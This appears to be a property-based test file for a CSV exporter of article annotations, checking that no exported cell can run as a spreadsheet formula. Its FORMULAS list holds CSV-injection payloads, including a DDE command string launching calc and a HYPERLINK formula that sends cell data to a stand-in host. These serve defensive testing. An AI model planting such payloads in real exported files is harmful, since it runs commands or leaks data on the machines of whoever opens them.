import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ArticleNotes } from '#exchange/ArticleNotes.ts';
import { libraryToCsv } from '#exchange/csv.ts';
import { LINE_BREAK } from '#exchange/plainLine.ts';
import { hostileText } from './hostile.ts';
import { readCsv } from './readCsv.ts';
import { anAnnotation, anArticle, aSource } from './records.ts';

const fileOf = async (library: ArticleNotes[]) => (await Array.fromAsync(libraryToCsv(library))).join('');

/** Ways to begin a formula, as the OWASP page on CSV injection lists them, and ways out of a cell. */
const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  `=HYPERLINK("http://t.example/?"&A1,"x")`,
  `=cmd|' /C calc'!A0`,
  '"=1',
  '","=1',
  '",=1,"',
  '"\r\n=1',
  ';=1',
  '; "=1',
  '\u202C=1',
  '\uFEFF=1',
  ' =1',
];
const dangerous = fc
  .tuple(fc.option(fc.constantFrom(...FORMULAS), { nil: '' }), hostileText, fc.constantFrom('', ...FORMULAS))
  .map((parts) => parts.join(''));

const hostile = (texts: string[]): ArticleNotes => {
  const [title = '', site = '', exact = '', note = '', tag = '', statement = '', said = ''] = texts;
  return {
    article: anArticle({ title, site, publishedAt: site, canonicalUrl: exact, urls: [note] }),
    annotations: [
      anAnnotation({
        exact,
        url: title,
        note,
        tags: [tag, statement],
        claim: { statement, type: 'other', attribution: said, status: 'open' },
        sources: [aSource({ url: said, title: tag, stance: 'disputes' }), aSource({ url: '', title: note })],
        createdAt: site,
      }),
    ],
  };
};
const hostileNotes = fc.array(dangerous, { minLength: 7, maxLength: 7 }).map(hostile);

const COLUMNS = 17;
/** Every control but tab and LF. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/u;

it('writes a library as in the golden file', async () => {
  const article = anArticle({ title: 'Dues “to double”, says "council"; port silent' });
  const claimed = anAnnotation({
    note: 'Per cent or points?\n\n- ask the office\n- =SUM(A1:A9) in their table',
    tags: ['harbour', 'to check'],
    claim: {
      statement: '+3.1% for freight',
      type: 'quantity',
      attribution: '@council',
      status: 'checking',
    },
    sources: [
      aSource(),
      aSource({ id: 'b', url: '', title: 'Interview with the harbour master', stance: 'disputes' }),
    ],
  });
  const moved = anAnnotation({
    id: 'second',
    target: { exact: 'The vote is on Monday', prefix: '', suffix: '', start: 400, end: 421 },
    retarget: { exact: '-8.4%, in brief', prefix: 'agreed. ', suffix: '', start: 90, end: 105 },
    anchor: { state: 'changed', checkedAt: '2026-03-13T09:00:00.000Z', textNow: 'x' },
    updatedAt: '2026-03-13T09:01:00.000Z',
  });
  const gone = anAnnotation({ id: 'gone', note: 'must not appear', deletedAt: '2026-03-13T09:00:00.000Z' });
  const bare = anArticle({
    id: 'b',
    title: null,
    site: null,
    publishedAt: null,
    canonicalUrl: null,
    urls: [],
  });
  const file = await fileOf([
    { article, annotations: [claimed, gone, moved] },
    { article: bare, annotations: [anAnnotation({ exact: 'النص', url: '' })] },
    { article: anArticle({ title: 'Nothing marked' }), annotations: [] },
  ]);
  await expect(file).toMatchFileSnapshot('golden/library.csv');
});

describe('for hostile texts in every field', () => {
  it('each annotation is one row of as many cells, and the file is UTF-8 with a byte-order mark and CRLF', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostileNotes, { maxLength: 3 }), async (library) => {
        const file = await fileOf(library);
        expect(file.startsWith('\uFEFF"Article","Site",')).toBe(true);
        expect(file).toMatch(/\r\n$/u);
        expect(file.isWellFormed()).toBe(true);
        const rows = readCsv(file);
        expect(rows.length).toBe(1 + library.length);
        for (const row of rows) expect(row.length).toBe(COLUMNS);
        expect(rows.flat().join('')).not.toMatch(CONTROL);
      }),
      { numRuns: 400 },
    );
  });

  it('no cell is text that a spreadsheet runs', async () => {
    await fc.assert(
      fc.asyncProperty(hostileNotes, async (notes) => {
        for (const cell of readCsv(await fileOf([notes])).flat()) {
          expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
          expect(cell).toBe(cell.trim());
        }
      }),
      { numRuns: 1_000 },
    );
  });

  it('nor where the spreadsheet takes a semicolon or a tab for the end of a cell', async () => {
    await fc.assert(
      fc.asyncProperty(hostileNotes, fc.constantFrom(';', '\t'), async (notes, separator) => {
        for (const cell of readCsv(await fileOf([notes]), separator).flat())
          expect(cell).not.toMatch(/^\s*[=+@＝＋＠]/u);
      }),
      { numRuns: 1_000 },
    );
  });

  it('the words are the same but for the apostrophes in front of formulas', async () => {
    const words = (text: string) =>
      text
        .toWellFormed()
        .split(LINE_BREAK)
        .join('\n')
        .replaceAll(new RegExp(CONTROL, 'gu'), ' ')
        .replace(/[\u202A-\u202E\u2066-\u2069]/gu, '')
        .trim()
        .replaceAll("'", '');
    await fc.assert(
      fc.asyncProperty(dangerous, async (text) => {
        const [, row] = readCsv(await fileOf([hostile([text, '', text, text])]));
        for (const column of [0, 4, 6]) expect(words(row?.[column] ?? '')).toBe(words(text));
      }),
      { numRuns: 1_000 },
    );
  });

  it('the same records give the same bytes, in any order of the annotations', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostileNotes, { maxLength: 4 }), async (library) => {
        const annotations = library
          .flatMap((notes) => notes.annotations)
          .map((one, i) => ({ ...one, id: `a${i}` }));
        const article = anArticle();
        const once = await fileOf([{ article, annotations }]);
        expect(await fileOf([{ article, annotations: annotations.toReversed() }])).toBe(once);
      }),
    );
  });
});

it('a library of a hundred thousand annotations is written in pieces of one article', async () => {
  const annotations = Array.from({ length: 100 }, (_, i) => anAnnotation({ id: `n${i}` }));
  function* many() {
    for (let i = 0; i < 1000; i++) yield { article: anArticle({ id: `m${i}` }), annotations };
  }
  let [pieces, longest] = [0, 0];
  for await (const piece of libraryToCsv(many())) {
    pieces += 1;
    longest = Math.max(longest, piece.length);
  }
  expect(pieces).toBe(1001);
  expect(longest).toBeLessThan(100_000);
}, 60_000);
